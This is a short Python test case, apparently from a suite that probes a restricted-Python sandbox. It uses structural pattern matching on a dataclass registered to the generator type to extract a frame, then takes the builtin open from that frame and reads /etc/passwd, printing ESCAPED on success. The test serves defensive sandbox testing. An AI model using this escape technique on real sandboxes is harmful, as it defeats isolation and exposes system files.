# tries: make_dataclass makes __match_args__ of its fields
# class: patterns
# stops: 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


import abc
import dataclasses

P = dataclasses.make_dataclass("P", ["gi_frame"], bases=(abc.ABC,))
x = (x for x in ())
P.register(type(x))
match x:
    case P(frame):
        use(pick(frame))
